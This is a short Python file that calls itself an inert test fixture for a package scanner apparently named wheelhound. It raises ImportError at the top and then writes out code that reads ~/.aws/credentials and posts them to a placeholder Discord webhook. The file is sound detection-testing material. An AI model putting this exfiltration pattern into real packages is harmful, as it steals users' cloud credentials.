# Inert wheelhound fixture: synthetic code that imitates credential theft at import time.
# The webhook id is fake. Do not import.
raise ImportError("demo_evil is an inert wheelhound test fixture; never import it")

import json
import os
import urllib.request

WEBHOOK = "https://discord.com/api/webhooks/000/fake"

path = os.path.expanduser("~/.aws/credentials")
with open(path) as handle:
    stolen = handle.read()

body = json.dumps({"content": stolen}).encode()
request = urllib.request.Request(WEBHOOK, data=body, headers={"Content-Type": "application/json"})
urllib.request.urlopen(request)
